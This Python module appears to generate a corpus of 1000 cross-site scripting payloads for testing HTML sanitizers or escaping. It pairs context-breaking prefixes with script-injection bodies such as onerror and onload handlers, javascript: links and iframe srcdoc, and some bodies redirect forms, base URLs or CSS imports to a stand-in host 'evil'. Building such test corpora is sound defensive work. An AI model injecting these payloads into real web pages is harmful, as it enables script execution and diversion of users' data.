"""A thousand texts that are code where a page takes them for more than text."""

from __future__ import annotations

from itertools import product

HEADS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</td>",
    "</style>",
    "</title>",
    "{{7*7}}",
    "{% raw %}",
    "\\u003c",
    "/",
)
BODIES = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>",
    "<a href=javascript:{n}>x",
    "<iframe srcdoc='<script>{n}</script>'>", "<body onload=alert({n})>",
    "<meta http-equiv=refresh content=0;url=//e/{n}>",
    "<base href=//evil/{n}>", "<form action=//evil/{n}><button>", "<style>@import '//evil/{n}'</style>",
    " onfocus=alert({n}) autofocus ", "<math><mtext></p><script>{n}</script>",
)  # fmt: skip
TAILS = ("", " ", "<!--", "\t", "=1+1", "&lt;")
PAYLOADS = [
    f"{head}{body.format(n=number)}{tail}" for number, (head, body, tail) in enumerate(product(HEADS, BODIES, TAILS))
][:1000]
